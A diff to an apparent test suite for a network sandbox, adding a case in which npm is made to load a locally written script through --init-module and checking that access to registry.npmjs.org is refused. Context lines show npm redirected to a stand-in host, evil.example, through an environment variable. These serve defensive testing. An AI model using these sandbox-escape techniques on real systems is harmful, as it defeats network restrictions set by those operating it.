@@ -64,6 +64,13 @@ const CASES: readonly ServiceCase[] = [
     refused: "registry.npmjs.org",
   },
   {
+    name: "npm told to load a module into itself",
+    needs: "npm",
+    before: `printf '%s' '${DIAL_JS}' > dial.js`,
+    script: "npm --init-module=$PWD/dial.js init -y",
+    refused: "registry.npmjs.org",
+  },
+  {
     name: "npm sent elsewhere by a variable",
     needs: "npm",
     script: `npm_config_registry=http://evil.example ${NPM}`,
